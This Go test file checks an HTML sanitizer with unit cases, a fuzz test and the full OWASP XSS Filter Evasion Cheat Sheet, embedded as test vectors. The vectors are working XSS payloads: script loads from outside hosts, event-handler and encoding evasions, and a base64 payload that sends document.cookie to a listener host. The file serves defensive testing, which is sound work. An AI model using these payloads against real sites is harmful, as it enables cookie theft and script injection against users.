package pagerender

import (
	"fmt"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

func TestSanitizeHTML(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"table kept", `<table class="lensbook-table"><tbody><tr><th>a</th><td style="text-align:right">1</td></tr></tbody></table>`,
			`<table class="lensbook-table"><tbody><tr><th>a</th><td style="text-align:right">1</td></tr></tbody></table>`},
		{"table body made explicit, as browsers do", `<table><tr><td>1</td></tr></table>`, `<table><tbody><tr><td>1</td></tr></tbody></table>`},
		{"script dropped with content", `a<script>alert(1)</script>b`, `ab`},
		{"script end tag in other case", `a<SCRIPT type="x">alert(1)</ScRiPt >b`, `ab`},
		{"unterminated script drops the rest", `a<script>alert(1)`, `a`},
		{"style dropped with content", `<style>body{display:none}</style>x`, `x`},
		{"event handler dropped", `<div onclick="alert(1)" class="lensbook-scroll">x</div>`, `<div class="lensbook-scroll">x</div>`},
		{"handler without quotes", `<p onmouseover=alert(1)>x</p>`, `<p>x</p>`},
		{"id and name dropped", `<div id="__pwned" name="x">x</div>`, `<div>x</div>`},
		{"link becomes text", `<a href="javascript:alert(1)">go</a>`, `go`},
		{"img with remote src keeps only its text", `<img src="http://example.com/x.png" alt="x">`, `<img alt="x"/>`},
		{"img with onerror dropped", `<img src=x onerror=alert(1)>`, ``},
		{"img with data src kept", `<img src="data:image/png;base64,iVBORw0KGgo=" alt="chart" onerror="x">`,
			`<img src="data:image/png;base64,iVBORw0KGgo=" alt="chart"/>`},
		{"img with data text/html dropped", `<img src="data:text/html;base64,PHNjcmlwdD4=">`, ``},
		{"picture with data sources kept", `<picture><source media="(prefers-color-scheme: dark)" srcset="data:image/svg+xml;base64,PHN2Zy8+"><img src="data:image/svg+xml;base64,PHN2Zy8+" alt="c" width="600" height="300"></picture>`,
			`<picture><source media="(prefers-color-scheme: dark)" srcset="data:image/svg+xml;base64,PHN2Zy8+"/><img src="data:image/svg+xml;base64,PHN2Zy8+" alt="c" width="600" height="300"/></picture>`},
		{"picture with remote source dropped", `<picture><source srcset="http://x/y.png 2x"><img src="http://x/y.png"></picture>`, `<picture></picture>`},
		{"iframe dropped with content", `<iframe srcdoc="<script>x</script>">inner</iframe>after`, `after`},
		{"style with url dropped", `<p style="background:url(http://x/y.png)">t</p>`, `<p>t</p>`},
		{"style with expression dropped", `<p style="width:expression(alert(1))">t</p>`, `<p>t</p>`},
		{"style with escape dropped", `<p style="background:u\72l(x)">t</p>`, `<p>t</p>`},
		{"positioning dropped", `<div style="position:fixed;top:0">x</div>`, `<div>x</div>`},
		{"table styles kept as written", `<div style="text-align:left;padding:2px 8px;white-space:nowrap;border-bottom:1px solid #888;color:rgb(1, 2, 3)">x</div>`,
			`<div style="text-align:left;padding:2px 8px;white-space:nowrap;border-bottom:1px solid #888;color:rgb(1, 2, 3)">x</div>`},
		{"page classes dropped", `<div class="banner banner-failed lensbook-table">x</div>`, `<div>x</div>`},
		{"output classes kept", `<figure class="lensbook-table lensbook-many-rows"><td class="num">`, `<figure class="lensbook-table lensbook-many-rows"></figure>`},
		{"comment dropped", `a<!-- <script>x</script> -->b`, `ab`},
		{"doctype and processing instructions dropped", `<!DOCTYPE html><?xml version="1.0"?>x`, `x`},
		{"text escaped again", `1 &lt; 2 &amp;&amp; "q" > 0`, `1 &lt; 2 &amp;&amp; &#34;q&#34; &gt; 0`},
		{"entity in attribute normalised", `<p title="a&quot;b">x</p>`, `<p title="a&#34;b">x</p>`},
		{"stray less-than is text", `a < b <3`, `a &lt; b &lt;3`},
		{"unclosed elements closed", `<div><b>x`, `<div><b>x</b></div>`},
		{"cannot close the page's elements", `</div></main><p>x</p></section>`, `<p>x</p>`},
		{"unclosed table cannot swallow the page", `<table><tr><td>x`, `<table><tbody><tr><td>x</td></tr></tbody></table>`},
		{"end tag closes inner elements", `<div><span>x</div>y`, `<div><span>x</span></div>y`},
		{"unknown tag dropped, text kept", `<blink>x</blink><form action="/">y</form>`, `xy`},
		{"svg kept with drawing attributes", `<svg viewBox="0 0 10 10" width="10" xmlns="http://www.w3.org/2000/svg"><g transform="scale(2)"><path d="M0 0L1 1" stroke="red"/></g></svg>`,
			`<svg viewBox="0 0 10 10" width="10"><g transform="scale(2)"><path d="M0 0L1 1" stroke="red"></path></g></svg>`},
		{"svg gradient keeps its camelCase", `<svg><defs><linearGradient gradientUnits="userSpaceOnUse"><stop offset="0" stop-color="#fff"/></linearGradient></defs></svg>`,
			`<svg><defs><linearGradient gradientUnits="userSpaceOnUse"><stop offset="0" stop-color="#fff"></stop></linearGradient></defs></svg>`},
		{"svg script and onload dropped", `<svg onload="alert(1)"><script>alert(2)</script><rect width="1"/></svg>`, `<svg><rect width="1"></rect></svg>`},
		{"svg foreignObject dropped", `<svg><foreignObject><img src=x onerror=alert(1)></foreignObject><circle r="1"/></svg>`, `<svg><circle r="1"></circle></svg>`},
		{"svg use and href dropped", `<svg><use href="#a" xlink:href="http://x"/><image href="http://x/y.png"/></svg>`, `<svg></svg>`},
		{"svg url reference dropped", `<svg><rect fill="url(#g)" clip-path="url(http://x)" width="2"/></svg>`, `<svg><rect width="2"></rect></svg>`},
		{"svg animate dropped", `<svg><set attributeName="onmouseover" to="alert(1)"/><animate attributeName="href" values="javascript:alert(1)"/></svg>`, `<svg></svg>`},
		{"svg element outside svg is an inert element", `<rect width="1">x</rect>`, `<rect width="1">x</rect>`},
		{"html inside svg leaves the svg, as browsers do", `<svg><div>x</div></svg>`, `<svg></svg><div>x</div>`},
		{"attribute value with gt", `<p title="a>b">x</p>`, `<p title="a&gt;b">x</p>`},
		{"unterminated attribute", `<p title="x`, ``},
		{"self closing html element opens it, as browsers do", `<div/>x`, `<div>x</div>`},
		{"non-ascii text kept", `<p>İstanbul – 東京</p>`, `<p>İstanbul – 東京</p>`},
		{"plaintext drops the rest", `a<plaintext><b>x</b>`, `a`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := sanitizeHTML(tt.in); got != tt.want {
				t.Errorf("sanitizeHTML(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
		})
	}
}

// TestSanitizeHTMLOWASP runs every vector of the OWASP XSS Filter Evasion
// Cheat Sheet through the sanitizer, alone and inside a table cell and an
// SVG, and checks that the result is inert (see inertProblems) and stable.
func TestSanitizeHTMLOWASP(t *testing.T) {
	for _, v := range owaspVectors {
		t.Run(v.Name, func(t *testing.T) {
			for _, in := range []string{v.Vector, "<table><tr><td>" + v.Vector + "</td></tr></table>", "<svg><g>" + v.Vector + "</g></svg>"} {
				out := sanitizeHTML(in)
				for _, p := range inertProblems(out) {
					t.Errorf("sanitizeHTML(%q) = %q: %s", in, out, p)
				}
				if again := sanitizeHTML(out); again != out {
					t.Errorf("not stable: %q -> %q -> %q", in, out, again)
				}
			}
		})
	}
}

// inertElements are the elements sanitized output may hold.
var inertElements = map[string]bool{}

func init() {
	for _, e := range append(append(htmlElements, svgElements...), "img", "source", "lineargradient", "radialgradient") {
		inertElements[strings.ToLower(e)] = true
	}
}

// inertProblems parses sanitized output as a browser would inside the
// page's output <div> and lists what could run script or make a request:
// an element outside the allow-list (script, iframe, object, link, meta,
// style, a, form, ...), an event handler attribute, a URL attribute other
// than a data: image (no javascript:, vbscript:, data:text/html, no
// remote URL), or a style or SVG attribute that could fetch (url(),
// expression(), @import, behaviour bindings, escapes).
func inertProblems(out string) []string {
	context := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
	nodes, err := html.ParseFragment(strings.NewReader(out), context)
	if err != nil {
		return []string{err.Error()}
	}
	var problems []string
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		switch n.Type {
		case html.CommentNode, html.DoctypeNode:
			problems = append(problems, "keeps a comment or doctype")
		case html.ElementNode:
			if !inertElements[strings.ToLower(n.Data)] {
				problems = append(problems, fmt.Sprintf("keeps element <%s>", n.Data))
			}
			for _, a := range n.Attr {
				name := strings.ToLower(a.Key)
				value := strings.ToLower(strings.Map(func(r rune) rune {
					if r <= ' ' || r == 0x7f {
						return -1
					}
					return r
				}, a.Val))
				switch {
				case a.Namespace != "" || strings.Contains(name, ":"):
					problems = append(problems, fmt.Sprintf("keeps namespaced attribute %s", a.Key))
				case strings.HasPrefix(name, "on"):
					problems = append(problems, fmt.Sprintf("keeps event handler %s", a.Key))
				case name == "src" || name == "srcset":
					if !safeImageSrc.MatchString(a.Val) {
						problems = append(problems, fmt.Sprintf("keeps %s=%q, not a data: image", a.Key, a.Val))
					}
				case name == "title" || name == "alt" || name == "abbr":
					// Text to the browser, never loaded or run.
				case urlAttributes[name]:
					problems = append(problems, fmt.Sprintf("keeps URL attribute %s=%q", a.Key, a.Val))
				default:
					for _, bad := range []string{"javascript:", "vbscript:", "livescript:", "data:", "url(", "expression", "@import", "behavior", "binding", "\\", "://", "&{"} {
						if strings.Contains(value, bad) {
							problems = append(problems, fmt.Sprintf("keeps %s=%q containing %q", a.Key, a.Val, bad))
						}
					}
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
	return problems
}

// urlAttributes are attributes whose value a browser loads or navigates to.
var urlAttributes = map[string]bool{"href": true, "action": true, "formaction": true, "background": true, "dynsrc": true,
	"lowsrc": true, "data": true, "code": true, "codebase": true, "srcdoc": true, "poster": true, "ping": true,
	"cite": true, "longdesc": true, "usemap": true, "manifest": true, "classid": true, "datasrc": true, "values": true, "to": true, "from": true, "by": true}

// TestSanitizeHTMLOutputIsStable checks that sanitizing twice changes
// nothing: the output is already in the form the sanitizer writes.
func TestSanitizeHTMLOutputIsStable(t *testing.T) {
	inputs := []string{
		`<table onclick="x"><tr><td>a &amp; b</td></tr></table><script>x</script>`,
		`<svg viewBox="0 0 1 1"><text x="0" y="1" font-size="2">&lt;label&gt;</text></svg>`,
		`<div><p>unclosed <b>bold`,
		`<pre>` + "\n\nx" + `</pre>`,
	}
	for _, in := range inputs {
		once := sanitizeHTML(in)
		if twice := sanitizeHTML(once); twice != once {
			t.Errorf("sanitizing %q twice:\nonce  %q\ntwice %q", in, once, twice)
		}
	}
}

func FuzzSanitizeHTML(f *testing.F) {
	for _, seed := range []string{`<b onclick=x>y</b>`, `<svg><script>x</script></svg>`, `<td title='a"b'>`, `<<>>`, `</`, `<a`, `<!--`} {
		f.Add(seed)
	}
	for _, v := range owaspVectors {
		f.Add(v.Vector)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := sanitizeHTML(in)
		for _, p := range inertProblems(out) {
			t.Fatalf("sanitizeHTML(%q) = %q: %s", in, out, p)
		}
		if again := sanitizeHTML(out); again != out {
			t.Fatalf("not stable: %q -> %q -> %q", in, out, again)
		}
	})
}

// owaspVectors are the vectors of the OWASP XSS Filter Evasion Cheat Sheet
// (cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html),
// in its order, as a text/html output would carry them. Vectors that only
// make sense outside HTML (inside a script, a URL parameter or an HTTP
// header) are given as the markup they would end up in.
var owaspVectors = []struct{ Name, Vector string }{
	{"basic", `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`},
	{"polyglot", "javascript:/*--></title></style></textarea></script></xmp>\n<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>"},
	{"malformed a onmouseover quoted", `<a onmouseover="alert(document.cookie)">xxs link</a>`},
	{"malformed a onmouseover", `<a onmouseover=alert(document.cookie)>xxs link</a>`},
	{"malformed img", `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`},
	{"fromCharCode", `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`},
	{"default src #", `<IMG SRC=# onmouseover="alert('xxs')">`},
	{"default src empty", `<IMG SRC= onmouseover="alert('xxs')">`},
	{"default src left out", `<IMG onmouseover="alert('xxs')">`},
	{"on error alert", `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`},
	{"img onerror encoded", `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`},
	{"decimal references", `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`},
	{"decimal references without semicolons", `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`},
	{"hex references without semicolons", `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`},
	{"embedded tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">"},
	{"embedded encoded tab", `<IMG SRC="jav&#x09;ascript:alert('XSS');">`},
	{"embedded newline", `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`},
	{"embedded carriage return", `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`},
	{"null in javascript directive", "<IMG SRC=java\x00script:alert(\"XSS\")>"},
	{"spaces and meta chars before javascript", `<IMG SRC=" &#14;  javascript:alert('XSS');">`},
	{"non-alpha-non-digit script", `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`},
	{"non-alpha-non-digit body", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>"},
	{"slash before src", `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`},
	{"extraneous open brackets", `<<SCRIPT>alert("XSS");//\<</SCRIPT>`},
	{"no closing script tag", `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`},
	{"protocol resolution in script", `<SCRIPT SRC=//xss.rocks/.j>`},
	{"half open img", `<IMG SRC="` + "`<javascript:alert>`" + `('XSS')"`},
	{"double open angle brackets", `<iframe src=http://xss.rocks/scriptlet.html <`},
	{"escaping javascript escapes", `\";alert('XSS');//`},
	{"end script tag", `</script><script>alert('XSS');</script>`},
	{"end title tag", `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`},
	{"input image", `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`},
	{"body background", `<BODY BACKGROUND="javascript:alert('XSS')">`},
	{"img dynsrc", `<IMG DYNSRC="javascript:alert('XSS')">`},
	{"img lowsrc", `<IMG LOWSRC="javascript:alert('XSS')">`},
	{"list-style-image", `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`},
	{"vbscript in image", `<IMG SRC='vbscript:msgbox("XSS")'>`},
	{"livescript", `<IMG SRC="livescript:[code]">`},
	{"svg onload", `<svg/onload=alert('XSS')>`},
	{"ecmascript 6", "Set.constructor`alert\\x28document.domain\\x29"},
	{"body onload", `<BODY ONLOAD=alert('XSS')>`},
	{"event handlers", `<div onAbort="alert(1)" onActivate="alert(1)" onAfterPrint="alert(1)" onBeforeCopy="alert(1)" onBlur="alert(1)" onClick="alert(1)" onContextMenu="alert(1)" onDblClick="alert(1)" onDrag="alert(1)" onDrop="alert(1)" onError="alert(1)" onFocus="alert(1)" onInput="alert(1)" onKeyDown="alert(1)" onLoad="alert(1)" onMouseEnter="alert(1)" onMouseOver="alert(1)" onPaste="alert(1)" onScroll="alert(1)" onSelectStart="alert(1)" onUnload="alert(1)" FSCommand="alert(1)" seekSegmentTime="alert(1)">x</div>`},
	{"bgsound", `<BGSOUND SRC="javascript:alert('XSS');">`},
	{"javascript includes", `<BR SIZE="&{alert('XSS')}">`},
	{"link stylesheet javascript", `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`},
	{"remote style sheet", `<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">`},
	{"remote style sheet import", `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`},
	{"meta link header", `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`},
	{"moz-binding", `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`},
	{"style tag broken javascript", `<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>`},
	{"style attribute broken expression", `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`},
	{"img style with expressions", "exp/*<A STYLE='no\\xss:noxss(\"*//*\");\nxss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>"},
	{"style type text/javascript", `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`},
	{"style background-image", `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`},
	{"style background", `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`},
	{"style background bracketed", `<STYLE type="text/css">BODY{background:url("<javascript:alert>('XSS')")}</STYLE>`},
	{"anonymous element style", `<XSS STYLE="xss:expression(alert('XSS'))">`},
	{"local htc", `<XSS STYLE="behavior: url(xss.htc);">`},
	{"us-ascii encoding", "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be"},
	{"meta refresh", `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`},
	{"meta refresh data", `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`},
	{"meta refresh extra url", `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`},
	{"iframe", `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`},
	{"iframe event", `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`},
	{"frame", `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`},
	{"table background", `<TABLE BACKGROUND="javascript:alert('XSS')">`},
	{"td background", `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`},
	{"div background-image", `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`},
	{"div background-image unicode", `<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">`},
	{"div background-image extra characters", "<DIV STYLE=\"background-image: url(\u0001javascript:alert('XSS'))\">"},
	{"div expression", "<DIV STYLE=\"width: expression(alert('XSS'));\">"},
	{"div expression newline", "<DIV STYLE=\"width:\nexpression(alert('XSS'));\">"},
	{"downlevel-hidden block", "<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->"},
	{"base tag", `<BASE HREF="javascript:alert('XSS');//">`},
	{"object", `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`},
	{"embed flash", `<EMBED SRC="http://ha.ckers.org/xss.swf" AllowScriptAccess="always"></EMBED>`},
	{"embed svg", `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`},
	{"xml data island", "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>\n<SPAN DATASRC=\"#xss\" DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>"},
	{"locally hosted xml", "<XML SRC=\"xsstest.xml\" ID=I></XML>\n<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>"},
	{"html+time", "<HTML><BODY>\n<?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\">\n<?import namespace=\"t\" implementation=\"#default#time2\">\n<t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(\"XSS\")</SCRIPT>\">\n</BODY></HTML>"},
	{"script renamed to image", `<SCRIPT SRC="http://xss.rocks/xss.jpg"></SCRIPT>`},
	{"ssi", `<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://xss.rocks/xss.js></SCRIPT>'"-->`},
	{"php", "<? echo('<SCR)';\necho('IPT>alert(\"XSS\")</SCRIPT>'); ?>"},
	{"img embedded commands", `<IMG SRC="http://www.thesiteyouareon.com/somecommand.php?somevariables=maliciouscode">`},
	{"img embedded commands redirect", `<IMG SRC="httx://badguy.com/a.jpg">`},
	{"cookie manipulation", `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`},
	{"utf-7", `<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-`},
	{"quote encapsulation 1", `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`},
	{"quote encapsulation 2", `<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`},
	{"quote encapsulation 3", `<SCRIPT a=">" '' SRC="httx://xss.rocks/xss.js"></SCRIPT>`},
	{"quote encapsulation 4", `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`},
	{"quote encapsulation grave", "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>"},
	{"quote encapsulation 5", `<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>`},
	{"document.write split", `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>`},
	{"ip versus hostname", `<A HREF="http://66.102.7.147/">XSS</A>`},
	{"url encoding", `<A HREF="http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D">XSS</A>`},
	{"dword encoding", `<A HREF="http://1113982867/">XSS</A>`},
	{"hex encoding", `<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>`},
	{"octal encoding", `<A HREF="http://0102.0146.0007.00000223/">XSS</A>`},
	{"base64 encoding", `<img onload="eval(atob('ZG9jdW1lbnQubG9jYXRpb249Imh0dHA6Ly9saXN0ZXJuSVAvIitkb2N1bWVudC5jb29raWU='))">`},
	{"mixed encoding", "<A HREF=\"h \ntt  p://6\t6.000146.0x7.147/\">XSS</A>"},
	{"protocol resolution bypass", `<A HREF="//www.google.com/">XSS</A>`},
	{"feeling lucky 1", `<A HREF="//google">XSS</A>`},
	{"feeling lucky 2", `<A HREF="http://ha.ckers.org@google">XSS</A>`},
	{"feeling lucky 3", `<A HREF="http://google:ha.ckers.org">XSS</A>`},
	{"removing cnames", `<A HREF="http://google.com/">XSS</A>`},
	{"absolute dns", `<A HREF="http://www.google.com./">XSS</A>`},
	{"javascript link location", `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`},
	{"content replace", `<A HREF="http://www.google.com/ogle.com/">XSS</A>`},
	{"http parameter pollution", `<a href="/share?content_type=1&title=This is a regular title&amp;content_type=1;alert(1)">Share</a>`},
	{"redirection javascript", `<javascript:alert(document.cookie>)`},
	{"redirection data", `<data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=`},
	{"waf img onerror", `<Img src = x onerror = "javascript: window.onerror = alert; throw XSS">`},
	{"waf video source onerror", `<Video> <source onerror = "javascript: alert (XSS)">`},
	{"waf input", `<Input value = "XSS" type = text>`},
	{"waf applet", `<applet code="javascript:confirm(document.cookie);">`},
	{"waf isindex", `<isindex x="javascript:" onmouseover="alert(XSS)">`},
	{"waf end script", `"></SCRIPT>”>’><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>`},
	{"waf img x:x", `"><img src="x:x" onerror="alert(XSS)">`},
	{"waf iframe javascript", `"><iframe src="javascript:alert(XSS)">`},
	{"waf object data", `<object data="javascript:alert(XSS)">`},
	{"waf isindex image", `<isindex type=image src=1 onerror=alert(XSS)>`},
	{"waf img eval src", `<img src=x:alert(alt) onerror=eval(src) alt=0>`},
	{"waf img unicode escape", `<img  src="x:gif" onerror="window['al\u0065rt'](0)"></img>`},
	{"waf iframe data svg", `<iframe/src="data:text/html,<svg onload=alert(1)>">`},
	{"waf meta newline entities", `<meta content="&NewLine; 1 &NewLine;; JAVASCRIPT&colon; alert(1)" http-equiv="refresh"/>`},
	{"waf svg script xlink", `<svg><script xlink:href=data&colon;,window.open('https://www.google.com/')></script`},
	{"waf meta refresh confirm", `<meta http-equiv="refresh" content="0;url=javascript:confirm(1)">`},
	{"waf iframe entities", `<iframe src=javascript&colon;alert&lpar;document&period;location&rpar;>`},
	{"waf form a", `<form><a href="javascript:\u0061lert(1)">X`},
	{"waf img null comment", "</script><img/*\x00/src=\"worksinchrome&colon;prompt(1)\"/\x00*/onerror='eval(src)'>"},
	{"waf style expression", `<style>//*{x:expression(alert(/xss/))}//<style></style>`},
	{"waf img fake attribute", `<img src="/" =_=" title="onerror='prompt(1)'">`},
	{"waf a many attributes", `<a aa aaa aaaa aaaaa aaaaaa aaaaaaa aaaaaaaa aaaaaaaaa aaaaaaaaaa href=j&#97v&#97script:&#97lert(1)>ClickMe`},
	{"waf script attributes", `<script x> alert(1) </script 1=2`},
	{"waf button formaction", `<form><button formaction=javascript&colon;alert(1)>CLICKME`},
	{"waf input onmouseover", `<input/onmouseover="javaSCRIPT&colon;confirm&lpar;1&rpar;"`},
	{"waf iframe data encoded", `<iframe src="data:text/html,%3C%73%63%72%69%70%74%3E%61%6C%65%72%74%28%31%29%3C%2F%73%63%72%69%70%74%3E"></iframe>`},
	{"waf object classid", `<OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:alert(1)"></OBJECT>`},
	{"character escapes of <", "&lt &lt; &LT &LT; &#60 &#060 &#0000060 &#60; &#x3c &#x000003c; &#X3C; \\x3c \\u003c %3Cscript%3Ealert(1)%3C/script%3E"},
	{"alert obfuscation", "(alert)(1) a=alert,a(1) [1].find(alert) top[/al/.source+/ert/.source](1) al\\u0065rt(1) alert?.() `${alert``}`"},
}

// BenchmarkSanitizeHTML sanitizes a pkg/display table of 20 rows, the most
// common text/html output of a report.
func BenchmarkSanitizeHTML(b *testing.B) {
	var rows [][]string
	for i := range 20 {
		rows = append(rows, []string{fmt.Sprintf("key %d", i), fmt.Sprintf("%d", i*37), "Activate & GetKey <m>"})
	}
	table := tableHTMLForBenchmark(rows)
	b.SetBytes(int64(len(table)))
	for b.Loop() {
		sanitizeHTML(table)
	}
}

// tableHTMLForBenchmark writes rows as pkg/display.TableHTML does.
func tableHTMLForBenchmark(rows [][]string) string {
	var s strings.Builder
	s.WriteString(`<figure class="lensbook-table" style="margin:0">` + "\n" + `<figcaption class="lensbook-caption" style="text-align:left;font-weight:bold;padding:4px 0">20 rows × 3 columns</figcaption>` + "\n" + `<div class="lensbook-scroll" style="overflow-x:auto">` + "\n" + `<table style="border-collapse:collapse;font-variant-numeric:tabular-nums">` + "\n<thead><tr>")
	for _, h := range []string{"key", "requests", "methods"} {
		s.WriteString(`<th style="text-align:left;padding:2px 8px;white-space:nowrap;border-bottom:1px solid #888">` + h + `</th>`)
	}
	s.WriteString("</tr></thead>\n<tbody>\n")
	for _, r := range rows {
		s.WriteString("<tr>")
		for _, c := range r {
			s.WriteString(`<td style="text-align:right;padding:2px 8px;white-space:nowrap">` + html.EscapeString(c) + `</td>`)
		}
		s.WriteString("</tr>\n")
	}
	s.WriteString("</tbody>\n</table>\n</div>\n</figure>")
	return s.String()
}
